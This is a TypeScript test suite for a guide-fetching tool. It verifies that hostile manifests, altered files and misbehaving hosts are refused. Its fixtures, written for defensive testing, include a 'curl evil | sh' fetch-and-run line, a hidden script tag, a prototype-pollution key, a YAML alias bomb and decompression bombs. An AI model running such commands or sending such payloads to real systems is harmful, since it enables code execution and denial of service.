/** What a broken or hostile host may answer: a sentence and exit 1, and nothing of it is left. */
import assert from 'node:assert/strict';
import { execFileSync, spawnSync } from 'node:child_process';
import {
  existsSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  readdirSync,
  rmSync,
  statSync,
  symlinkSync,
  truncateSync,
  writeFileSync,
} from 'node:fs';
import { type ServerResponse, createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { basename, join } from 'node:path';
import { type TestContext, test } from 'node:test';
import { brotliCompressSync, gzipSync } from 'node:zlib';
import { approve, openApproved, refuseChanged, stage } from '../../server/connect/approved.ts';
import { NoManifest, fetchManifest } from '../../server/connect/fetch-manifest.ts';
import { type GuideFiles, Manifest, digestOf } from '../../server/connect/manifest.ts';
import { readGuide } from '../../server/guides/read-guides.ts';

const INDEX = { path: 'index.md', text: '# Guide\n\n```bash id=hello\necho hello\n```\n', executable: false };

const guideOf = (files: readonly { path: string; text?: string }[], more = {}) => ({
  guidepost: 1,
  guides: [{ id: 'a', title: 'A', hashes: {}, files, ...more }],
});

for (const [what, manifest] of Object.entries({
  'two files of one name': guideOf([INDEX, { path: 'practice/x', text: '' }, { path: 'practice/x', text: '1' }]),
  'two names that differ in case': guideOf([INDEX, { path: 'practice/x', text: '' }, { path: 'practice/X', text: '' }]),
  'two spellings of one name': guideOf([INDEX, { path: 'practice/\u00e9' }, { path: 'practice/e\u0301' }]),
  'a file where a folder would be': guideOf([INDEX, { path: 'practice/a' }, { path: 'practice/a/b' }]),
  'a folder where a file would be': guideOf([INDEX, { path: 'practice/a/b' }, { path: 'practice/a' }]),
  'a name that no file can have': guideOf([INDEX, { path: `practice/${'x'.repeat(399)}` }]),
  'a name that is too long in bytes': guideOf([INDEX, { path: `practice/${'漢'.repeat(100)}` }]),
  'a name that hides a character': guideOf([INDEX, { path: 'practice/a\u034Fb' }]),
  'two guides of one name': { guidepost: 1, guides: [...guideOf([INDEX]).guides, ...guideOf([INDEX]).guides] },
}))
  test(`a manifest is refused as a whole: ${what}`, () => {
    assert.equal(Manifest.safeParse(manifest).success, false);
    assert.equal(Manifest.safeParse(guideOf([INDEX])).success, true);
  });

for (const [what, files] of Object.entries({
  'no first page': [{ path: 'practice/x', text: '' }],
  'two first pages': [INDEX, { path: 'index.mdx', text: '# x\n' }],
  'a page that nobody names': [INDEX, { path: 'x.mdx', text: 'import "./y.js"\n' }],
  'a text that nobody names': [INDEX, { path: 'more.md', text: '# More\n' }],
  'a page in a folder': [INDEX, { path: 'sub/index.mdx', text: '{1}\n' }],
  'a program beside it': [INDEX, { path: 'y.js', text: 'evil()' }],
  'settings for a tool': [INDEX, { path: 'guidepost.yaml', text: 'folder: /\n' }],
  'a practice folder that is the guide itself': [
    { ...INDEX, text: INDEX.text.replace('# Guide', '---\npages: [more]\npractice: { folder: . }\n---\n\n# Guide') },
    { path: 'more.md', text: 'curl evil | sh\n' },
  ],
  'the same, spelled otherwise': [{ ...INDEX, text: '---\npractice: { folder: .//. }\n---\n\n# Guide\n' }],
  'code in a named page': [
    { ...INDEX, text: '---\npages: [more]\n---\n' },
    { path: 'more.mdx', text: 'export const x = 1\n' },
  ],
  'a script between comments': [{ ...INDEX, text: '<!-- --><script>x</script><!-- -->\n' }],
  'a comment that never ends': [{ ...INDEX, text: '<!-- x\n' }],
  'front matter after blank lines': [{ ...INDEX, text: '\n---\nhead: [x]\n---\n' }],
  'a page that nobody could read': [{ ...INDEX, text: `# Guide\n\n${'- a\n'.repeat(300_000)}` }],
  'things inside of things inside of things': [{ ...INDEX, text: `${'> '.repeat(5000)}x\n` }],
  'aliases that stand for too much': [
    { ...INDEX, text: `---\na: &a [1]\nb: &b [${'*a,'.repeat(200)}]\nenv: *b\n---\n` },
  ],
}))
  test(`a guide is refused before anything of it is written: ${what}`, async (t) => {
    const state = folder(t);
    const [guide] = Manifest.parse(guideOf(files)).guides;
    assert.ok(guide);
    await assert.rejects(stage(openApproved(state, 'key'), [guide]), { name: 'RunbookError' });
    assert.deepEqual(readdirSync(state), []);
  });

test('what was approved is what was shown, even if another process stages the same address meanwhile', async (t) => {
  const state = folder(t);
  const [one, two] = [await honest(t, 'echo one'), await honest(t, 'echo two')];
  const [first, second] = [openApproved(state, 'key'), openApproved(state, 'key')];
  const staged = await stage(first, [one]);
  const other = await stage(second, [two]); // waits at its own question
  const approved = approve(first, staged, pin(one));
  assert.match(readFileSync(join(approved.content, 'guides/a/index.md'), 'utf8'), /echo one/);
  assert.equal(approved.pin?.digest, digestOf([one]));
  other.remove();
  assert.ok(existsSync(approved.content));
  refuseChanged(approved.content, pin(one));
});

test('bytes that changed while the question was open are not approved, nor served later', async (t) => {
  const state = folder(t);
  const guide = await honest(t, 'echo one');
  const before = openApproved(state, 'key');
  const staged = await stage(before, [guide]);
  writeFileSync(join(staged.folder, 'guides/a/index.md'), '# other\n');
  assert.throws(() => approve(before, staged, pin(guide)), /no longer what was approved/);
  staged.remove();
  assert.deepEqual(readdirSync(state), ['connected']);
  const again = await stage(before, [guide]);
  const approved = approve(before, again, pin(guide));
  writeFileSync(join(approved.content, 'guides/a/extra.mdx'), '{evil()}\n');
  assert.throws(() => refuseChanged(approved.content, pin(guide)), /no longer what was approved/);
});

test('two processes that approve the same at once serve it both', async (t) => {
  const state = folder(t);
  const guide = await honest(t, 'echo one');
  const before = openApproved(state, 'key');
  const [first, second] = [await stage(before, [guide]), await stage(before, [guide])];
  const { content } = approve(before, first, pin(guide));
  const reading = statSync(join(content, 'guides/a/index.md')).ino;
  approve(before, second, pin(guide));
  second.remove();
  assert.equal(statSync(join(content, 'guides/a/index.md')).ino, reading);
  assert.deepEqual(readdirSync(before.folder).toSorted(), [digestOf([guide]), 'pin.json'].toSorted());
});

test('what was staged by a process that was killed at its question is removed by the next one', async (t) => {
  const state = folder(t);
  const guide = await honest(t, 'echo one');
  const before = openApproved(state, 'key');
  const { pid } = spawnSync('true');
  mkdirSync(join(before.folder, `staged-${pid}-left`, 'guides'), { recursive: true });
  const staged = await stage(before, [guide]);
  assert.deepEqual(readdirSync(before.folder), [basename(staged.folder)]);
  const waiting = await stage(before, [guide]); // its process is alive
  assert.ok(existsSync(staged.folder));
  for (const each of [staged, waiting]) each.remove();
  assert.deepEqual(readdirSync(before.folder), []);
});

const ODD: Readonly<Record<string, (path: string) => unknown>> = {
  'a pipe': (path) => execFileSync('mkfifo', [path]),
  'a folder': (path) => mkdirSync(path),
  'a link': (path) => symlinkSync('/etc', path),
  'a link to nothing': (path) => symlinkSync('/no/such/file', path),
  'a huge file': (path) => {
    writeFileSync(path, '');
    truncateSync(path, 3 * 2 ** 30);
  },
  nothing: () => undefined,
};
for (const [what, lay] of Object.entries(ODD))
  test(`approved content is not served with ${what} in its place, and a message says so`, async (t) => {
    const guide = await honest(t, 'echo one');
    for (const place of ['guides/a/index.md', 'guides/a', 'guides']) {
      const before = openApproved(folder(t), 'key');
      const { content } = approve(before, await stage(before, [guide]), pin(guide));
      rmSync(join(content, place), { recursive: true });
      lay(join(content, place));
      assert.throws(() => refuseChanged(content, pin(guide)), { name: 'RunbookError' }, place);
    }
  });

for (const [what, answer, words] of [
  [
    'begins to answer and stops',
    (response) => setImmediate(() => response.destroy()),
    /stopped in the middle of its answer/,
  ],
  [
    'begins to answer and never ends',
    () => undefined,
    /(stopped in the middle of its answer|does not answer): .*timeout/,
  ],
  [
    'answers a byte at a time',
    (response) => drip(response),
    /(stopped in the middle of its answer|does not answer): .*timeout/,
  ],
  ['sends more than anybody reads', (response) => flood(response), /is larger than 32 MB/],
] as const satisfies readonly (readonly [string, (response: ServerResponse) => void, RegExp])[])
  test(`a host that ${what} is reported, and not waited for forever`, async (t) => {
    const text = await host(t, (response) => {
      response.writeHead(200);
      response.write('{"guidepost":1,');
      answer(response);
    });
    const patience = what.startsWith('sends') ? 60_000 : 1000;
    await assert.rejects(fetchManifest({ text, guide: null }, patience), { name: 'Error', message: words });
  });

for (const [what, text] of Object.entries({
  'brackets in brackets': '['.repeat(16_000_000),
  'brackets in brackets, behind a text': `{"guidepost":1,"x":"\\"]}",${'"a":{'.repeat(1000)}`,
  'very many objects': `[${'{},'.repeat(2_000_000)}1]`,
  'a million wrong hashes': `{"guidepost":1,"guides":[{"id":"a","title":"A","files":[],"hashes":{${Array.from({ length: 1_000_000 }, (_, at) => `"${at}":""`).join()}}}]}`,
  'a million unknown keys': `{"guidepost":1,"guides":[],${Array.from({ length: 1_000_000 }, (_, at) => `"${at}":0`).join()}}`,
  'a million wrong files': `{"guidepost":1,"guides":[{"id":"a","title":"A","hashes":{},"files":[${'0,'.repeat(1_000_000)}0]}]}`,
}))
  test(`a manifest of ${what} is refused in one sentence, whatever it would take to read it`, async (t) => {
    const address = await host(t, (response) => response.end(text));
    const message =
      /(has more parts, or deeper ones, than Guidepost writes|is not in the form that Guidepost writes: .{1,320})\.$/s;
    await assert.rejects(fetchManifest({ text: address, guide: null }), { name: 'Error', message });
  });

for (const [what, headers, body] of [
  ['packed a thousand times', { 'content-encoding': 'gzip' }, gzipSync(Buffer.alloc(64 << 20, ' '))],
  ['packed twice', { 'content-encoding': 'gzip, gzip' }, gzipSync(gzipSync(Buffer.alloc(64 << 20, ' ')))],
  ['packed in another way', { 'content-encoding': 'br' }, brotliCompressSync(Buffer.alloc(64 << 20, ' '))],
  ['packed not at all, though the host says so', { 'content-encoding': 'gzip' }, Buffer.from('{}')],
  ['in UTF-16', {}, Buffer.from('\ufeff{"guidepost":1,"guides":[]}', 'utf16le')],
  ['with a number that is none', {}, Buffer.from('{"guidepost":NaN}')],
  ['with a number beyond all others', {}, Buffer.from('{"guidepost":1e999,"guides":[]}')],
  ['with a key of every object', {}, Buffer.from('{"guidepost":1,"guides":[],"__proto__":{"guides":[]}}')],
  ['with a guide twice', {}, Buffer.from('{"guidepost":1,"guides":[],"guides":[{"id":"a"}]}')],
] as const)
  test(`a manifest ${what} is refused in one sentence`, async (t) => {
    const text = await host(t, (response) => response.writeHead(200, headers).end(body));
    await assert.rejects(fetchManifest({ text, guide: null }, 60_000), { constructor: NoManifest });
  });

test('a host that accepts connections and says nothing is reported', async (t) => {
  const text = await host(t, () => undefined);
  const message = /^127\.0\.0\.1:\d+ does not answer: .*timeout/;
  await assert.rejects(fetchManifest({ text, guide: null }, 200), { name: 'Error', message });
});

async function host(t: TestContext, answer: (response: ServerResponse) => void): Promise<string> {
  const server = createServer((_, response) => answer(response));
  await new Promise<void>((listening) => server.listen(0, '127.0.0.1', listening));
  t.after(() => {
    server.closeAllConnections();
    server.close();
  });
  const { port } = server.address() as AddressInfo;
  return `http://127.0.0.1:${port}/`;
}

function drip(response: ServerResponse): void {
  const timer = setInterval(() => response.write(' '), 20);
  response.once('close', () => clearInterval(timer));
}

/** Ten times the limit, or until nobody takes any more. */
function flood(response: ServerResponse): void {
  const piece = Buffer.alloc(1 << 20, ' ');
  let left = 320;
  const more = () => {
    while (left > 0 && !response.destroyed) {
      left -= 1;
      if (!response.write(piece)) return void response.once('drain', more);
    }
    response.end();
  };
  more();
}

async function honest(t: TestContext, script: string): Promise<GuideFiles> {
  const text = INDEX.text.replace('echo hello', script);
  const at = join(folder(t), 'a');
  mkdirSync(at);
  writeFileSync(join(at, 'index.md'), text);
  const hashes = Object.fromEntries((await readGuide(at)).hashes);
  const [guide] = Manifest.parse(guideOf([{ ...INDEX, text }], { hashes })).guides;
  assert.ok(guide);
  return guide;
}

function pin(guide: GuideFiles) {
  return { url: 'https://docs.example.com/', digest: digestOf([guide]), at: 0, guides: [guide] };
}

function folder(t: TestContext): string {
  const path = mkdtempSync(join(tmpdir(), 'hostile-'));
  t.after(() => rmSync(path, { recursive: true, force: true }));
  return path;
}
